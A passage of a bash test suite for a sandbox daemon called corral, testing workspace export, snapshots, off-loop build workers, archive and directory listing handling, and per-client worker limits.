	mkdir -p "$T/ws/sub"
	echo keep > "$T/ws/keep.txt"
	echo k2 > "$T/ws/sub/k2"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'echo new > new.txt')"
	for r in r1 r2; do
		expect_eq "to $r" "$(api POST "/v1/sandboxes/$SB/export" -d "{\"to\": \"$T/$r\"}")" 200
		expect_eq "$r: unchanged copied" "$(json copied_unchanged < "$T/body")" 3
		expect_eq "$r" "$(cat "$T/$r/keep.txt" "$T/$r/sub/k2" "$T/$r/new.txt" 2>&1)" "keep
k2
new"
	done
	expect_eq "diff" "$(api GET "/v1/sandboxes/$SB/diff")" 200
	for n in 1 2; do
		expect_eq "snapshot $n" "$(api POST "/v1/sandboxes/$SB/snapshot")" 201
		expect_eq "snapshot $n: its file" "$(json files < "$T/body")" 1
		expect_eq "snapshot $n: the copy" \
			"$(cat "$T/state/snapshots/$(json id < "$T/body")/tree/new.txt" 2>&1)" new
	done
	stop_daemon
}

# A daemon killed while it copied leaves a snapshot with no meta.json:
# never listed, counted or deletable, it is removed by the next start.
s_snapshot_unfinished_swept() {
	mkdir -p "$T/ws"
	echo a > "$T/ws/a"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	expect_eq "a finished one" "$(api POST "/v1/sandboxes/$SB/snapshot")" 201
	done=$(json id < "$T/body")
	stop_daemon
	# what the copy had made when the daemon was killed (kill -9 in the
	# middle of a large copy leaves the same, at a moment a test cannot pick)
	mkdir -p "$T/state/snapshots/snap-0123456789ab/tree/dir"
	head -c 100000 /dev/zero > "$T/state/snapshots/snap-0123456789ab/tree/dir/big"
	start_daemon
	[ ! -e "$T/state/snapshots/snap-0123456789ab" ] ||
		fail "the unfinished snapshot stayed: $(ls -R "$T/state/snapshots")"
	expect_eq "the finished one kept" "$(api GET "/v1/snapshots/$done")" 200
	stop_daemon
}

# ---- builds off the loop (api_builds.c, box_job.c) ---------------------------

# the daemon's workers: its children named corral-build (by /proc, never a
# kill), in WORKERS; no fork (wait_workers reads them every 50 ms)
read_workers() {
	local f p comm kids
	WORKERS=()
	for f in /proc/"$DPID"/task/*/children; do
		kids=()	# (the file has no newline: read says 1 and fills it)
		read -r -a kids 2>/dev/null < "$f" || true
		for p in "${kids[@]}"; do
			comm=
			read -r comm 2>/dev/null < /proc/"$p"/comm || true
			[ "$comm" != corral-build ] || WORKERS+=("$p")
		done
	done
	return 0
}

workers() {	# the workers, one a line
	read_workers
	[ ${#WORKERS[@]} -eq 0 ] || printf '%s\n' "${WORKERS[@]}"
}

# wait_workers N: until N workers are held (bounded), else fail
wait_workers() {
	local i=0
	read_workers
	while [ ${#WORKERS[@]} -lt "$1" ] && [ $i -lt 600 ]; do
		doze 0.05
		i=$((i + 1))
		read_workers
	done
	[ ${#WORKERS[@]} -ge "$1" ] || fail "$1 workers were wanted, ${#WORKERS[@]} run"
}

# release: the held workers go on (each waits in its open of the FIFO
# CORRAL_TEST_BUILD_FIFO names: one writer lets every one of them through)
release() {
	timeout 10 sh -c "echo > '$T/hold'" || fail "no worker took the release"
}

# bg_api NAME METHOD PATH [CURL ARGS...]: in the background, status in
# $T/NAME.code; by httpc, as api's (curl: 35 ms of CPU a start)
bg_api() {
	local n=$1 m=$2 p=$3
	shift 3
	"$HTTPC" -sS --max-time 120 --unix-socket "$SOCK" -X "$m" -o "$T/$n.body" \
		-w '%{http_code}' "$@" "http://localhost$p" > "$T/$n.code" 2> "$T/$n.err" &
	eval "${n}_PID=$!"
}

bg_wait() {	# bg_wait NAME: its client's end (bounded by its --max-time)
	local v="${1}_PID"
	wait "${!v}" 2>/dev/null || true
}

# a workspace whose patch crosses many 1 MiB slices, with UTF-8 sequences cut
# at their ends (3- and 4-byte ones), a binary file, a deletion, a held trap
write_big_ws() {
	mkdir -p "$T/ws"
	echo base > "$T/ws/base.txt"
	echo gone > "$T/ws/gone.txt"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	cat > "$T/gen.sh" <<'GEN'
cd "$1"
# (one awk: the shell's loop of printf was 0.2 s of CPU, twice a test; the
# same bytes, cmp'd)
awk 'BEGIN { for (i = 0; i < 40000; i++) printf "x\342\202\254\342\202\254\303\274\360\237\230\200 line \"%d\" \\ tab\t.\n", i }' > euro.txt
for n in 1 2 3; do cat euro.txt euro.txt; done > big.txt
seq 1 60000 | gzip -n -1 > bin.dat
echo changed > base.txt
rm gone.txt
mkdir -p .git/hooks; echo '#!/bin/sh' > .git/hooks/pre-commit
GEN
}

# The user's: the answers made off the loop are the ones made in line by
# `corral run --patch` on the same workspace: the diff's patch, the
# export's patch (inside its JSON), a path's diff.
s_builds_answer_as_made_in_line() {
	write_big_ws
	cp -a "$T/ws" "$T/ref"
	"$CORRAL" run --workspace "$T/ref" --patch "$T/ref.diff" -- /bin/sh -c "$(< "$T/gen.sh")" sh /workspace \
		> "$T/run.out" 2>&1 || fail "corral run --patch: $(tail -3 "$T/run.out")"
	[ "$(stat -c %s "$T/ref.diff")" -gt 3000000 ] || fail "the reference patch is small"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$T/gen.sh" /workspace
	expect_eq "diff patch" "$(api GET "/v1/sandboxes/$SB/diff?format=patch")" 200
	cmp "$T/body" "$T/ref.diff" || fail "the diff's patch is not corral run's"
	expect_eq "export patch" "$(api POST "/v1/sandboxes/$SB/export" -d '{"patch": true}')" 200
	$PY -c 'import json, sys
a = json.load(open(sys.argv[1]))
assert a["patch"].encode() == open(sys.argv[2], "rb").read(), "the patch differs"
assert [h["path"] for h in a["held"]] == [".git/hooks/pre-commit"] or \
	".git/hooks/pre-commit" in [h["path"] for h in a["held"]], a["held"]
assert a["mode"] == "patch"' "$T/body" "$T/ref.diff" || fail "the export's patch is not corral run's"
	expect_eq "diff json" "$(api GET "/v1/sandboxes/$SB/diff")" 200
	expect_contains "diff lists" "$(< "$T/body")" '"path":"big.txt"'
	expect_eq "a path's patch" "$(api GET "/v1/sandboxes/$SB/diff?format=patch&path=base.txt")" 200
	expect_contains "base.txt" "$(< "$T/body")" "+changed"
	expect_not_contains "only base.txt" "$(< "$T/body")" "euro.txt"
	grep -q '"type":"export","mode":"patch"' "$T/state/audit.jsonl" || fail "no export event"
	grep -q '"type":"export.held"' "$T/state/audit.jsonl" || fail "no export.held event"
	[ -z "$(workers)" ] || fail "a worker stayed: $(workers)"
}

# The attacker's: while one sandbox's patch, diff and snapshot are being
# made (their workers held on a FIFO: they cannot have finished), another
# sandbox's exec and /v1/health are answered.  Made on the loop, none of
# them would answer before the builds had.
s_builds_leave_the_loop_free() {
	write_big_ws
	mkfifo "$T/hold"
	CORRAL_TEST_BUILD_FIFO=$T/hold start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	A=$SB
	run "$A" "$T/gen.sh" /workspace
	create '{"idle_freeze_ms": 0}'
	B=$SB
	bg_api exp POST "/v1/sandboxes/$A/export" -d '{"patch": true}'
	wait_workers 1
	bg_api snap POST "/v1/sandboxes/$A/snapshot"
	wait_workers 2
	expect_eq "health meanwhile" "$(api GET /v1/health)" 200
	run "$B" "$(sh_file b.sh 'echo other')"
	kill -0 "$exp_PID" 2>/dev/null || fail "the export was answered before its worker ran"
	kill -0 "$snap_PID" 2>/dev/null || fail "the snapshot was answered before its worker ran"
	expect_eq "workers held" "$(workers | wc -l)" 2
	release
	bg_wait exp
	bg_wait snap
	expect_eq "export" "$(< "$T/exp.code")" 200
	expect_contains "its patch" "$(head -c 400000 "$T/exp.body")" "big.txt"
	expect_eq "snapshot" "$(< "$T/snap.code")" 201
	# an export to a new directory writes the whole workspace: a worker too
	bg_api to POST "/v1/sandboxes/$A/export" -d "{\"to\": \"$T/out\"}"
	wait_workers 1
	expect_eq "health while it writes" "$(api GET /v1/health)" 200
	run "$B" "$(sh_file c.sh 'echo other')"
	kill -0 "$to_PID" 2>/dev/null || fail "the export to a directory was answered before its worker ran"
	release
	bg_wait to
	expect_eq "export to" "$(< "$T/to.code")" 200
	cmp "$T/out/big.txt" "$T/out/big.txt" && [ -s "$T/out/big.txt" ] || fail "big.txt was not written"
	[ ! -e "$T/out/.git/hooks/pre-commit" ] || fail "a hook came out"
	grep -q '"type":"export","mode":"to"' "$T/state/audit.jsonl" || fail "no export event for to"
	[ -z "$(workers)" ] || fail "a worker stayed: $(workers)"
}

# An archive unpacked into a sandbox costs what it inflates to, up to the
# sandbox's free disk, not its own 64 MiB: 900 KiB of gzip'd zeros were
# 900 MiB written, and every other client of the daemon waited 1.3 s
# meanwhile, for as long as one kept sending it.  A worker unpacks it
# (held here on the FIFO: it cannot have finished) while the loop answers;
# a client that goes meanwhile takes its worker with it.
s_builds_unpack_off_the_loop() {
	held_builds_daemon
	create '{"idle_freeze_ms": 0}'
	$PY - "$T/in.tar.gz" <<'PY'
import gzip, io, sys, tarfile
with gzip.open(sys.argv[1], "wb") as g, tarfile.open(fileobj=g, mode="w") as t:
    for name, data in (("d/a.txt", b"one\n"), ("zeros", bytes(4 << 20))):
        i = tarfile.TarInfo(name)
        i.size = len(data)
        t.addfile(i, io.BytesIO(data))
PY
	bg_api un PUT "/v1/sandboxes/$SB/archive?path=/tmp/in" --data-binary @"$T/in.tar.gz"
	wait_workers 1
	expect_eq "health meanwhile" "$(api GET /v1/health)" 200
	expect_eq "a listing meanwhile" "$(api GET "/v1/sandboxes/$SB/files?path=/tmp&list=1")" 200
	kill -0 "$un_PID" 2>/dev/null || fail "the archive was answered before its worker ran"
	release
	bg_wait un
	expect_eq "unpacked" "$(< "$T/un.code")" 201
	expect_contains "counted" "$(< "$T/un.body")" '"entries":2'
	run "$SB" "$(sh_file c.sh 'test "$(cat /tmp/in/d/a.txt)" = one; test "$(stat -c %s /tmp/in/zeros)" = 4194304')"
	# its client gone: the worker killed, no answer waited for
	gone_takes_its_worker PUT "/v1/sandboxes/$SB/archive?path=/tmp/in2" \
		--data-binary @"$T/in.tar.gz"
	expect_eq "health after" "$(api GET /v1/health)" 200
	# a halt meanwhile: its files are evidence, the worker stops with it
	halt_stops_its_worker "the archive" "the archive was unpacked only in part" \
		PUT "/v1/sandboxes/$SB/archive?path=/tmp/in3" --data-binary @"$T/in.tar.gz"
}

# An archive out walks the tree the sandbox made: 240,000 FIFOs (left out,
# no byte of the archive, so its 64 MiB cap never stopped the walk) held
# every other client of the daemon 0.5 s a request, for as long as one
# kept asking (bench/walks.py).  A worker makes it into a spool (held here
# on the FIFO: it cannot have finished) while the loop answers, beside a
# diff of the same sandbox; the archive is what it was.  It counts among
# the daemon's 4 workers; a client that goes, a halt and a destroy each
# take its worker, and its spool, with them.
s_archive_out_off_the_loop() {
	local w n
	held_builds_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file t.sh 'mkdir -p /tmp/t/d && echo one > /tmp/t/d/a.txt &&
		mkfifo /tmp/t/p && ln -s d/a.txt /tmp/t/l && head -c 3000000 /dev/urandom > /tmp/t/big &&
		echo A > a')"
	expect_eq "big, by file" "$(api GET "/v1/sandboxes/$SB/files?path=/tmp/t/big")" 200
	mv "$T/body" "$T/big"
	bg_api ar GET "/v1/sandboxes/$SB/archive?path=/tmp/t" -D "$T/ar.head"
	wait_workers 1
	expect_eq "health meanwhile" "$(api GET /v1/health)" 200
	expect_eq "a listing meanwhile" "$(api GET "/v1/sandboxes/$SB/files?path=/tmp/t&list=1")" 200
	bg_api df GET "/v1/sandboxes/$SB/diff?format=patch"
	wait_workers 2
	kill -0 "$ar_PID" 2>/dev/null || fail "the archive was answered before its worker ran"
	release
	bg_wait ar
	bg_wait df
	expect_eq "the archive" "$(< "$T/ar.code")" 200
	expect_contains "its type" "$(tr -d '\r' < "$T/ar.head")" "Content-Type: application/x-tar"
	expect_eq "the diff beside it" "$(< "$T/df.code")" 200
	expect_contains "its patch" "$(< "$T/df.body")" "+A"
	$PY - "$T/ar.body" "$T/big" <<'PY' || fail "the archive: $(head -c 300 "$T/ar.body" | od -c | head -5)"
import sys, tarfile
t = tarfile.open(sys.argv[1])
names = [(m.name, m.type) for m in t.getmembers()]
assert names == [("big", tarfile.REGTYPE), ("d", tarfile.DIRTYPE),
                 ("d/a.txt", tarfile.REGTYPE), ("l", tarfile.SYMTYPE)], names
assert t.extractfile("d/a.txt").read() == b"one\n"
assert t.extractfile("big").read() == open(sys.argv[2], "rb").read()
assert t.getmember("l").linkname == "d/a.txt"
PY
	# its client gone: the worker killed, its spool closed
	bg_api gone GET "/v1/sandboxes/$SB/archive?path=/tmp/t"
	wait_workers 1
	w=${WORKERS[0]}
	expect_eq "a spool" "$(spools)" 1
	kill "$gone_PID"
	bg_wait gone
	wait_gone "$w"
	expect_eq "no spool" "$(spools)" 0
	expect_eq "health after" "$(api GET /v1/health)" 200
	# four at once, the daemon's limit; a fifth is a 503
	for n in 1 2 3 4; do
		bg_api a$n GET "/v1/sandboxes/$SB/archive?path=/tmp/t"
	done
	wait_workers 4
	expect_eq "a fifth" "$(api GET "/v1/sandboxes/$SB/archive?path=/tmp/t" --max-time 10)" 503
	expect_contains "why" "$(< "$T/body")" "the daemon's limit"
	release
	for n in 1 2 3 4; do
		bg_wait a$n
		expect_eq "archive $n" "$(< "$T/a$n.code")" 200
		cmp -s "$T/a$n.body" "$T/ar.body" || fail "archive $n differs from the first"
	done
	# the sandbox destroyed meanwhile: 404, as a diff's
	create '{"idle_freeze_ms": 0}'
	bg_api de GET "/v1/sandboxes/$SB/archive?path=/etc"
	wait_workers 1
	w=${WORKERS[0]}
	expect_eq "destroy" "$(api DELETE "/v1/sandboxes/$SB")" 200
	bg_wait de
	expect_eq "the archive of a destroyed sandbox" "$(< "$T/de.code")" 404
	wait_gone "$w"
	# a halt meanwhile: the worker stops with it, saying so
	create '{"idle_freeze_ms": 0}'
	halt_stops_its_worker "the archive" "enough; the answer was cut short" \
		GET "/v1/sandboxes/$SB/archive?path=/etc"
}

# A recursive listing walks the tree too, up to 100000 entries: 100,000
# empty files held every other client 0.4 s a request (bench/walks.py).  A
# worker makes it, as an archive out; one directory's listing is still
# answered on the loop meanwhile.  A client that goes, a halt, take it.
s_recursive_listing_off_the_loop() {
	held_builds_daemon
	create '{"idle_freeze_ms": 0}'
	run "$SB" "$(sh_file t.sh 'mkdir -p /tmp/t/d && echo one > /tmp/t/d/a.txt &&
		mkfifo /tmp/t/p && ln -s d/a.txt /tmp/t/l && printf "\377" > "/tmp/t/$(printf "n\377")"')"
	bg_api ls GET "/v1/sandboxes/$SB/files?path=/tmp/t&list=1&recursive=1" -D "$T/ls.head"
	wait_workers 1
	expect_eq "health meanwhile" "$(api GET /v1/health)" 200
	expect_eq "one directory meanwhile" "$(api GET "/v1/sandboxes/$SB/files?path=/tmp/t&list=1")" 200
	expect_contains "on the loop" "$(< "$T/body")" '"name":"d","type":"dir"'
	kill -0 "$ls_PID" 2>/dev/null || fail "the listing was answered before its worker ran"
	release
	bg_wait ls
	expect_eq "the listing" "$(< "$T/ls.code")" 200
	expect_contains "its type" "$(tr -d '\r' < "$T/ls.head")" "Content-Type: application/json"
	$PY - "$T/ls.body" <<'PY' || fail "the listing: $(head -c 400 "$T/ls.body")"
import json, sys
v = json.load(open(sys.argv[1]))
assert v["path"] == "/tmp/t" and v["truncated"] is False, v
got = [(e["name"], e["type"]) for e in v["entries"]]
assert got == [("d", "dir"), ("d/a.txt", "file"), ("l", "symlink"),
               ("n\ufffd", "file"), ("p", "other")], got
assert [e.get("target") for e in v["entries"]][2] == "d/a.txt"
PY
	expect_eq "a file's listing" "$(api GET "/v1/sandboxes/$SB/files?path=/tmp/t/l/x&list=1&recursive=1")" 400
	expect_eq "none there" "$(api GET "/v1/sandboxes/$SB/files?path=/tmp/none&list=1&recursive=1")" 404
	# its client gone: the worker killed, its spool closed
	gone_takes_its_worker GET "/v1/sandboxes/$SB/files?path=/tmp/t&list=1&recursive=1"
	# a halt meanwhile
	halt_stops_its_worker "the listing" "enough; the answer was cut short" \
		GET "/v1/sandboxes/$SB/files?path=/tmp/t&list=1&recursive=1"
}

# One directory's listing was made on the loop whatever its size: 100,000
# names of 255 bytes that are not UTF-8 (six bytes each in JSON) held
# every other client 3 s a request, for a 157 MB answer in the daemon's
# memory (bench/walks.py).  A directory of more than 1000 names, or of
# more than 32 KiB of names and targets, is listed by a worker (held here
# on the FIFO: it cannot have finished), answered as before; one of 1000
# short names is still answered on the loop meanwhile.
s_large_directory_listing_off_the_loop() {
	held_builds_daemon
	create '{"idle_freeze_ms": 0}'
	run "$SB" "$(sh_file t.sh 'python3 -c "$1"')" 'import os
for top, n in ((b"/tmp/big", 1001), (b"/tmp/small", 1000)):
    os.makedirs(top + b"/d")
    for i in range(n - 2):
        open(top + b"/f\xff%04d" % i, "w").close()
    os.symlink(b"d", top + b"/l")
os.makedirs(b"/tmp/long")
for i in range(9):
    os.symlink(b"\xff" * 4000, b"/tmp/long/%d" % i)'
	bg_api ls GET "/v1/sandboxes/$SB/files?path=/tmp/big&list=1" -D "$T/ls.head"
	wait_workers 1
	expect_eq "health meanwhile" "$(api GET /v1/health)" 200
	expect_eq "1000 names meanwhile" "$(api GET "/v1/sandboxes/$SB/files?path=/tmp/small&list=1")" 200
	kill -0 "$ls_PID" 2>/dev/null || fail "the listing was answered before its worker ran"
	release
	bg_wait ls
	expect_eq "the listing" "$(< "$T/ls.code")" 200
	expect_contains "its type" "$(tr -d '\r' < "$T/ls.head")" "Content-Type: application/json"
	# 9 names, but 36000 bytes of targets: a worker's too
	bg_api long GET "/v1/sandboxes/$SB/files?path=/tmp/long&list=1"
	wait_workers 1
	kill -0 "$long_PID" 2>/dev/null || fail "the long listing was answered before its worker ran"
	release
	bg_wait long
	expect_eq "the long listing" "$(< "$T/long.code")" 200
	$PY -c 'import json, sys
v = json.load(open(sys.argv[1]))
assert v["truncated"] is False and len(v["entries"]) == 9, v["truncated"]
assert [e["target"] for e in v["entries"]] == ["\ufffd" * 4000] * 9' "$T/long.body" ||
		fail "the long listing: $(head -c 300 "$T/long.body")"
	$PY - "$T/ls.body" "$T/body" <<'PY' || fail "the listings: $(head -c 400 "$T/ls.body")"
import json, sys
for f, top, n in ((sys.argv[1], "/tmp/big", 1001), (sys.argv[2], "/tmp/small", 1000)):
    v = json.load(open(f))
    assert v["path"] == top and v["truncated"] is False, (top, v["truncated"])
    got = [(e["name"], e["type"]) for e in v["entries"]]
    want = [("d", "dir")] + [("f\ufffd%04d" % i, "file") for i in range(n - 2)] + \
        [("l", "symlink")]
    assert got == want, (top, len(got), got[:3], got[-2:])
    assert v["entries"][-1]["target"] == "d"
PY
	# a halt meanwhile: the worker stops with it, saying so
	halt_stops_its_worker "the listing" "enough; the answer was cut short" \
		GET "/v1/sandboxes/$SB/files?path=/tmp/big&list=1"
}

# An export's report names every file it let out, as many as the patch
# (export.max_files), each byte of a name that is not UTF-8 six in JSON
# (\ufffd): 50,000 names of 200 such bytes were a 64 MB report, which the
# daemon parsed and dumped four times on its loop (every other client
# waited 4.7 s; the daemon peaked at 410 MB).  The worker writes it after
# its answer, and the daemon sends it as it came: what the daemon takes
# for it is about three times its size, not seven.
s_builds_report_never_parsed_on_the_loop() {
	local rss0 hwm rep
	grep -q __asan_init "$CORRAL" && skip "ASan's quarantine holds the freed blocks"
	mkdir -p "$T/ws"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file n.sh 'python3 -c "$1"')" 'import os
for i in range(20000):
    d = b"%03d" % (i % 100)
    os.makedirs(d, exist_ok=True)
    open(d + b"/" + b"\xff" * 200 + b"%06d" % i, "w").close()'
	rss0=$(awk '/^VmRSS/ {print $2 * 1024}' /proc/"$DPID"/status)
	expect_eq "export" "$(api POST "/v1/sandboxes/$SB/export" \
		-H "Accept: application/vnd.corral.export-patch" -d '{"patch": true}')" 200
	hwm=$(awk '/^VmHWM/ {print $2 * 1024}' /proc/"$DPID"/status)
	rep=$(head -1 "$T/body" | wc -c)
	$PY -c 'import json, sys
r = json.loads(open(sys.argv[1], "rb").readline())
assert len(r["exported"]) == 20000, len(r["exported"])
assert r["exported"][0]["path"] == "000/" + "\ufffd" * 200 + "000000", r["exported"][0]' "$T/body" ||
		fail "the report: $(head -c 300 "$T/body")"
	echo "    a $rep-byte report: the daemon from $rss0 to a peak of $hwm bytes"
	[ $((hwm - rss0)) -lt $((rep * 5)) ] ||
		fail "the daemon took $((hwm - rss0)) bytes for a $rep-byte report"
}

# held_builds_daemon: a workspace holding "a", and a daemon whose build
# workers wait on the fifo $T/hold (CORRAL_TEST_BUILD_FIFO) before they start
# gone_takes_its_worker METHOD PATH [CURL ARGS...]: the client of a request
# that a held worker answers goes; the worker is killed, a spool with it
gone_takes_its_worker() {
	local w
	bg_api gone "$@"
	wait_workers 1
	w=${WORKERS[0]}
	kill "$gone_PID"
	bg_wait gone
	wait_gone "$w"
	expect_eq "no spool" "$(spools)" 0
}

# halt_stops_its_worker WHAT WHY METHOD PATH [CURL ARGS...]: the sandbox
# halted while a held worker answers: WHAT is a 409 saying WHY, the worker
# and its spool gone
halt_stops_its_worker() {
	local what=$1 why=$2 w
	shift 2
	bg_api halted "$@"
	wait_workers 1
	w=${WORKERS[0]}
	expect_eq "halt" "$(api POST "/v1/sandboxes/$SB/halt" -d '{"reason": "enough"}')" 200
	bg_wait halted
	expect_eq "$what, halted" "$(< "$T/halted.code")" 409
	expect_contains "why" "$(< "$T/halted.body")" "$why"
	wait_gone "$w"
	expect_eq "no spool" "$(spools)" 0
	[ -z "$(workers)" ] || fail "a worker stayed: $(workers)"
}

held_builds_daemon() {
	mkdir -p "$T/ws"
	echo a > "$T/ws/a"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	mkfifo "$T/hold"
	CORRAL_TEST_BUILD_FIFO=$T/hold start_daemon "$@"
}

# Limits: one build of a sandbox at a time, BUILDS_MAX (4) workers at once;
# two sandboxes' builds run side by side.
s_builds_limited() {
	held_builds_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	A=$SB
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	B=$SB
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	C=$SB
	run "$A" "$(sh_file a.sh 'echo A > a')"
	run "$B" "$(sh_file b.sh 'echo B > a')"
	bg_api ea POST "/v1/sandboxes/$A/export" -d '{"patch": true}'
	bg_api eb GET "/v1/sandboxes/$B/diff?format=patch"
	wait_workers 2
	expect_eq "a second build of A" "$(api GET "/v1/sandboxes/$A/diff")" 503
	expect_contains "why" "$(< "$T/body")" "one at a time"
	bg_api sa POST "/v1/sandboxes/$A/snapshot"
	bg_api sb POST "/v1/sandboxes/$B/snapshot"
	wait_workers 4
	expect_eq "a fifth worker" "$(api GET "/v1/sandboxes/$C/diff")" 503
	expect_contains "why" "$(< "$T/body")" "the daemon's limit"
	expect_eq "a snapshot over the limit" "$(api POST "/v1/sandboxes/$C/snapshot")" 503
	release
	for n in ea eb sa sb; do bg_wait $n; done
	expect_eq "A's export" "$(< "$T/ea.code")" 200
	expect_contains "A's patch" "$(< "$T/ea.body")" '+A'
	expect_eq "B's diff" "$(< "$T/eb.code")" 200
	expect_contains "B's patch" "$(< "$T/eb.body")" '+B'
	expect_eq "A's snapshot" "$(< "$T/sa.code")" 201
	expect_eq "B's snapshot" "$(< "$T/sb.code")" 201
	bg_api c GET "/v1/sandboxes/$C/diff"
	wait_workers 1
	release
	bg_wait c
	expect_eq "C, once one was done" "$(< "$T/c.code")" 200
}

# One lease's sandboxes (a corral mcp session's on a shared daemon), or one
# TCP peer's, take at most half the workers: a model that keeps asking for
# diffs of its own held all four, and every other session's diff was a
# 503 meanwhile.
s_builds_shared_between_owners() {
	PORT=$(free_port)
	printf 'builds-token-0123456789abcdef\n' > "$T/token"
	chmod 600 "$T/token"
	held_builds_daemon --listen "127.0.0.1:$PORT" --token-file "$T/token" \
		--allow-host-path "$T/ws"
	open_lease
	[ -n "$LEASE" ] || { fail "no lease: $(cat "$T/lease" 2>/dev/null)"; return 1; }
	trap 'kill "$LPID" 2>/dev/null; wait "$LPID" 2>/dev/null || true; stop_daemon' EXIT
	for n in 1 2 3; do
		create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0, \"lease\": \"$LEASE\"}"
		eval "L$n=\$SB"
	done
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	OTHER=$SB
	bg_api l1 GET "/v1/sandboxes/$L1/diff"
	bg_api l2 GET "/v1/sandboxes/$L2/diff"
	wait_workers 2
	expect_eq "a third of the lease's" "$(api GET "/v1/sandboxes/$L3/diff" --max-time 10)" 503
	expect_contains "why" "$(< "$T/body")" "this lease's sandboxes"
	bg_api o GET "/v1/sandboxes/$OTHER/diff"
	wait_workers 3
	release
	for n in l1 l2 o; do bg_wait $n; done
	expect_eq "the lease's first" "$(< "$T/l1.code")" 200
	expect_eq "the lease's second" "$(< "$T/l2.code")" 200
	expect_eq "another client's, meanwhile" "$(< "$T/o.code")" 200
	bg_api l3 GET "/v1/sandboxes/$L3/diff"
	wait_workers 1
	release
	bg_wait l3
	expect_eq "the lease's third, once one was done" "$(< "$T/l3.code")" 200
	# a TCP peer's sandboxes likewise (the same daemon, on 127.0.0.1)
	tcp() {	# tcp NAME METHOD PATH [CURL ARGS...]: as bg_api, over TCP
		local n=$1 m=$2 p=$3
		shift 3
		curl -sS --max-time 20 -H "Authorization: Bearer $(< "$T/token")" -X "$m" \
			-o "$T/$n.body" -w '%{http_code}' "$@" "http://127.0.0.1:$PORT$p" \
			> "$T/$n.code" 2> "$T/$n.err"
	}
	for n in 1 2 3; do
		tcp c$n POST /v1/sandboxes -d "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 600000}"
		expect_eq "a TCP create" "$(< "$T/c$n.code")" 201 || { cat "$T/c$n.body"; return 1; }
		eval "P$n=\$(json id < \"\$T/c$n.body\")"
	done
	tcp p1 GET "/v1/sandboxes/$P1/diff" &
	TP1=$!
	tcp p2 GET "/v1/sandboxes/$P2/diff" &
	TP2=$!
	wait_workers 2
	tcp p3 GET "/v1/sandboxes/$P3/diff"
	expect_eq "a third of the peer's" "$(< "$T/p3.code")" 503
	expect_contains "why" "$(< "$T/p3.body")" "this TCP peer's sandboxes"
	bg_api o2 GET "/v1/sandboxes/$OTHER/diff"
	wait_workers 3
	release
	wait "$TP1" "$TP2" 2>/dev/null || true
	bg_wait o2
	expect_eq "the peer's first" "$(< "$T/p1.code")" 200
	expect_eq "another client's, beside the peer's" "$(< "$T/o2.code")" 200
}

# An archive's unpack and a snapshot's copy are workers too, each as long as
# the sandbox's disk makes it: one lease's (or TCP peer's) took all four
# with them, and every other client's diff, export, snapshot and unpack
# was a 503 for as long as it kept asking.  They count among its half, as
# an archive out does.
s_unpacks_and_snapshots_shared_between_owners() {
	held_builds_daemon
	open_lease
	[ -n "$LEASE" ] || { fail "no lease: $(cat "$T/lease" 2>/dev/null)"; return 1; }
	trap 'kill "$LPID" 2>/dev/null; wait "$LPID" 2>/dev/null || true; stop_daemon' EXIT
	for n in 1 2; do
		create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0, \"lease\": \"$LEASE\"}"
		eval "L$n=\$SB"
	done
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	OTHER=$SB
	$PY - "$T/in.tar" <<'PY'
import io, sys, tarfile
with tarfile.open(sys.argv[1], "w") as t:
    i = tarfile.TarInfo("a.txt")
    i.size = 4
    t.addfile(i, io.BytesIO(b"one\n"))
PY
	bg_api l1 PUT "/v1/sandboxes/$L1/archive?path=/tmp/in" --data-binary @"$T/in.tar"
	bg_api l2 POST "/v1/sandboxes/$L2/snapshot"
	wait_workers 2
	expect_eq "a third worker of the lease's" \
		"$(api PUT "/v1/sandboxes/$L2/archive?path=/tmp/in" --data-binary @"$T/in.tar" --max-time 10)" 503
	expect_contains "why" "$(< "$T/body")" "this lease's sandboxes"
	expect_eq "nor a diff" "$(api GET "/v1/sandboxes/$L1/diff" --max-time 10)" 503
	expect_eq "nor a snapshot" "$(api POST "/v1/sandboxes/$L1/snapshot" --max-time 10)" 503
	expect_eq "nor an archive out" "$(api GET "/v1/sandboxes/$L1/archive?path=/tmp" --max-time 10)" 503
	bg_api o PUT "/v1/sandboxes/$OTHER/archive?path=/tmp/in" --data-binary @"$T/in.tar"
	bg_api o2 POST "/v1/sandboxes/$OTHER/snapshot"
	wait_workers 4
	release
	for n in l1 l2 o o2; do bg_wait $n; done
	expect_eq "the lease's unpack" "$(< "$T/l1.code")" 201
	expect_eq "the lease's snapshot" "$(< "$T/l2.code")" 201
	expect_eq "another client's unpack, meanwhile" "$(< "$T/o.code")" 201
	expect_eq "another client's snapshot, meanwhile" "$(< "$T/o2.code")" 201
	# theirs done, the lease's next goes
	bg_api l3 PUT "/v1/sandboxes/$L2/archive?path=/tmp/in2" --data-binary @"$T/in.tar"
	wait_workers 1
	release
	bg_wait l3
	expect_eq "the lease's next, once they were done" "$(< "$T/l3.code")" 201
}

# A TCP peer's answers that are made but not read: each keeps its spool (a
# file of the daemon's state dir, as large as the patch) until the client
# has read it, and the peer's bound of two builds counted only those whose
# worker still ran.  A peer that asked for a sandbox's patch on one
# connection after another, reading none, held a spool on each (32
